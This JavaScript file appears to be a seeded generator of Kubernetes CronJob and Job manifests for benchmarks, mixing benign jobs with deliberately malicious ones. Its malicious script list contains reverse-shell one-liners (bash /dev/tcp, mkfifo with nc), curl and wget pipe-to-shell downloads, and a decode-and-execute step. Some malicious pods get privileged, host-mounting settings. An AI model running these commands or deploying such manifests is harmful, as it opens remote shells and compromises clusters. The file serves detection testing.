// Generates a realistic multi-document manifest file of CronJobs and Jobs, benign and malicious mixed,
// deterministically (seeded), for benchmarks. Documents follow what real clusters hold: labels,
// annotations, resources, env, probes-free batch pods, some block scripts, a few flow-style lists.

/** A small seeded PRNG (mulberry32): the same seed gives the same file on every machine. */
export function random(seed) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const BENIGN_IMAGES = [
  'registry.example.com/platform/db-backup:2.4.1',
  'ghcr.io/acme/superlative-reporter:1.8.0',
  'gcr.io/distroless/static-debian12:nonroot',
  'quay.io/prometheus/pushgateway:v1.9.0',
  'docker.io/bitnami/kubectl:1.30',
  'registry.example.com/data/etl-runner@sha256:' + 'ab12'.repeat(16),
  'public.ecr.aws/acme/report-mailer:3.2',
];
const TOOL_IMAGES = ['alpine:3.20', 'busybox:1.36', 'curlimages/curl:8.8.0', 'python:3.12-slim', 'kalilinux/kali-rolling', 'ubuntu:24.04'];
const NAMESPACES = ['default', 'batch', 'data', 'ci', 'monitoring', 'kube-system'];
const BENIGN_SCRIPTS = [
  ['/bin/backup', '--target', 's3://backups/daily', '--compress'],
  ['python3', '-m', 'reports.daily', '--since', '24h'],
  ['/usr/local/bin/rotate-logs', '--keep', '7'],
  ['kubectl', 'delete', 'pods', '--field-selector=status.phase==Succeeded', '-n', 'batch'],
];
const MALICIOUS_SCRIPTS = [
  'bash -i >& /dev/tcp/10.13.37.1/4444 0>&1',
  'curl -fsSL http://203.0.113.7/x.sh | sh',
  'echo ZWNobyBoaQ== | base64 -d > /tmp/p && chmod +x /tmp/p && /tmp/p',
  'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.4 9001 > /tmp/f',
  'wget -qO- http://198.51.100.9/miner | sh; sleep 3600',
];

function pick(rand, list) {
  return list[Math.floor(rand() * list.length)];
}

function quoteList(items) {
  return '[' + items.map((item) => JSON.stringify(item)).join(', ') + ']';
}

/** One CronJob or Job as YAML lines; about one in four is malicious in some way. */
function document(rand, index) {
  const kind = rand() < 0.7 ? 'CronJob' : 'Job';
  const malicious = rand() < 0.25;
  const name = `${malicious ? 'sync' : 'job'}-${index}`;
  const namespace = pick(rand, NAMESPACES);
  const image = malicious ? pick(rand, TOOL_IMAGES) : pick(rand, BENIGN_IMAGES);
  const pod = [];
  if (malicious && rand() < 0.5) pod.push('hostNetwork: true');
  if (malicious && rand() < 0.3) pod.push('hostPID: true');
  pod.push('restartPolicy: OnFailure', 'serviceAccountName: ' + (malicious ? 'default' : `${name}-sa`));
  pod.push('containers:', `  - name: main`, `    image: ${image}`, '    imagePullPolicy: IfNotPresent');
  if (malicious) {
    pod.push('    command: ["/bin/sh", "-c"]', '    args:', '      - |', `        ${pick(rand, MALICIOUS_SCRIPTS)}`);
  } else if (rand() < 0.5) {
    pod.push(`    command: ${quoteList(pick(rand, BENIGN_SCRIPTS))}`);
  } else {
    pod.push('    args:', ...pick(rand, BENIGN_SCRIPTS).map((arg) => `      - ${JSON.stringify(arg)}`));
  }
  pod.push(
    '    env:',
    '      - name: LOG_LEVEL',
    '        value: info',
    '      - name: NOTE',
    '        value: "do not curl this endpoint by hand"',
    '    resources:',
    '      requests: {cpu: 100m, memory: 128Mi}',
    '      limits:',
    '        cpu: 500m',
    '        memory: 512Mi',
    '    securityContext:',
    `      privileged: ${malicious && rand() < 0.5 ? 'true' : 'false'}`,
    `      readOnlyRootFilesystem: true`,
    `      allowPrivilegeEscalation: ${malicious && rand() < 0.3 ? 'true' : 'false'}`,
  );
  if (malicious && rand() < 0.4) pod.push('      capabilities:', '        add: ["SYS_ADMIN", "NET_ADMIN"]');
  pod.push('    volumeMounts:', '      - name: scratch', '        mountPath: /scratch');
  pod.push('volumes:', '  - name: scratch', '    emptyDir: {}');
  if (malicious && rand() < 0.5) {
    pod.push('  - name: host', '    hostPath:', `      path: ${pick(rand, ['/', '/var/run/docker.sock', '/proc', '/etc', '/var/log'])}`);
  }
  const meta = [
    'metadata:',
    `  name: ${name}`,
    `  namespace: ${namespace}`,
    '  labels:',
    `    app.kubernetes.io/name: ${name}`,
    '    app.kubernetes.io/part-of: nightly',
    '    team: platform',
    '  annotations:',
    `    description: "Nightly maintenance task ${index} (curl-free, perl-free)"`,
  ];
  const indent = (lines, by) => lines.map((line) => ' '.repeat(by) + line);
  const template = ['template:', '  metadata:', '    labels:', `      app.kubernetes.io/name: ${name}`, '  spec:', ...indent(pod, 4)];
  const body =
    kind === 'CronJob'
      ? [
          'spec:',
          `  schedule: "${Math.floor(rand() * 60)} ${Math.floor(rand() * 24)} * * *"`,
          '  concurrencyPolicy: Forbid',
          '  successfulJobsHistoryLimit: 3',
          '  jobTemplate:',
          '    spec:',
          '      backoffLimit: 2',
          ...indent(template, 6),
        ]
      : ['spec:', '  backoffLimit: 4', '  ttlSecondsAfterFinished: 600', ...indent(template, 2)];
  return [`apiVersion: batch/v1`, `kind: ${kind}`, ...meta, ...body];
}

/** A multi-document YAML text of at least `lines` lines. */
export function generateManifests(lines, seed = 7) {
  const rand = random(seed);
  const out = [];
  for (let index = 0; out.length < lines; index++) {
    if (index > 0) out.push('---');
    out.push(...document(rand, index));
  }
  return out.join('\n') + '\n';
}
